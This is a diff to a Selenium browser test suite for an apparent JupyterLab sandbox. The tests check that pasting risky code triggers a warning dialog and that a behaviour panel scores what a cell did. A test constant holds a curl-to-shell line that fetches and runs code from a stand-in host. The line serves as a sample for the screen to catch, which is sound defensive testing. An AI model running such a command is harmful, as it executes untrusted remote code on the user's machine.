@@ -10,9 +10,11 @@ import re
 import sys
 from pathlib import Path
 
+from selenium.webdriver.common.action_chains import ActionChains
 from selenium.webdriver.common.by import By
+from selenium.webdriver.common.keys import Keys
 
-from tests.browser.lab import NOTEBOOK, Lab, eventually, settled
+from tests.browser.lab import NOTEBOOK, Lab, eventually, install, settled
 from tests.browser.person import FILES, Person
 from tests.support import ROOT
 from tests.support.lying_kernel import MARKUP
@@ -164,6 +166,9 @@ def test_a_kernel_that_lies_is_shown_as_text_bounded_and_believed_in_nothing(
     rows[0].find_elements(By.CSS_SELECTOR, "button")[1].click()
     person.click(".jp-Dialog button", "^Delete$")
     person.see(f"{PANEL} .sk-Note", "^<img")
+    person.click(f"{PANEL} .sk-Behaviour summary", "^Behaviour: 0 of 100 points, not safe$")
+    assert person.see(f"{PANEL} .sk-Behaviour li").text.startswith(MARKUP)
+    assert len(person.all(f"{PANEL} .sk-Behaviour li")) <= 200
     person.click(LINE)
     about = person.see(".jp-Dialog .sk-About").text
     assert about.startswith("State idle\nMemory ? of ?\nFiles ? of ?\nProcessors ?\n")
@@ -208,6 +213,53 @@ def test_a_file_of_the_file_browser_is_brought_into_the_sandbox_under_the_name_t
     person.go_home_in_files()
     lab.run_all()
     assert lab.text(0)[0].split() == ["a,b", "1,2"]
+
+
+GRAVE = "import os, subprocess\nos.system('curl http://192.0.2.1/x | sh')"
+HARMLESS = "import math\nprint([math.sqrt(number) for number in range(9)])"
+
+
+def paste(lab: Lab, text: str) -> None:
+    """Paste a text at the end of the first cell, as a person does."""
+    rights = {"origin": lab.url.rstrip("/"), "permissions": ["clipboardReadWrite", "clipboardSanitizedWrite"]}
+    lab.browser.execute_cdp_cmd("Browser.grantPermissions", rights)
+    lab.browser.execute_async_script("navigator.clipboard.writeText(arguments[0]).then(arguments[1])", text)
+    lab.browser.find_element(By.CSS_SELECTOR, ".jp-Notebook .jp-CodeCell .cm-content").click()
+    ActionChains(lab.browser).key_down(Keys.CONTROL).send_keys(Keys.END, "v").key_up(Keys.CONTROL).perform()
+
+
+def test_a_larger_paste_waits_for_an_answer_and_what_a_cell_did_is_in_the_panel(
+    walled_lab: Lab, kernels: Path, image: str, tmp_path: Path
+) -> None:
+    lab, person = walled_lab, Person(walled_lab, tmp_path / "pictures")
+    install(kernels, "sandbox-screened", image, "--screen", "warn")
+    lab.open("sandbox-screened", "")
+    person.see(LINE, "no network")
+    show_files(person)
+    gone(person, f"{PANEL} .sk-Behaviour")
+    paste(lab, HARMLESS)  # the control: nothing is asked about it
+    eventually(lambda: lab.cells() == [HARMLESS], "the harmless paste is in")
+    paste(lab, GRAVE)
+    person.see(".jp-Dialog", r"Paste this\? The screen finds:\nit runs what it downloads")
+    assert lab.cells() == [HARMLESS], "it is held back"
+    person.picture("asked")
+    person.click(".jp-Dialog button", "^Cancel$")
+    gone(person, ".jp-Dialog")
+    assert lab.cells() == [HARMLESS]
+    paste(lab, GRAVE)
+    person.click(".jp-Dialog button", "^Paste$")
+    eventually(lambda: lab.cells() == [HARMLESS + GRAVE], "the paste is in")
+    lab.js(f"{NOTEBOOK}.content.model.sharedModel.getCell(0).setSource(arguments[0])", GRAVE)
+    lab.run_all()
+    person.click(f"{PANEL} .sk-Behaviour summary", r"^Behaviour: 80 of 100 points, not safe$")
+    person.see(f"{PANEL} .sk-Behaviour li", "it runs what it downloads")
+    person.picture("behaviour")
+
+
+def test_control_a_kernel_that_screens_nothing_asks_about_no_paste(walled_lab: Lab) -> None:
+    walled_lab.open("sandbox-python", "")
+    paste(walled_lab, GRAVE)
+    eventually(lambda: walled_lab.cells() == [GRAVE], "the paste is in")
 
 
 def test_in_notebook_7_files_go_in_and_the_line_is_there(walled_lab: Lab, tmp_path: Path) -> None:
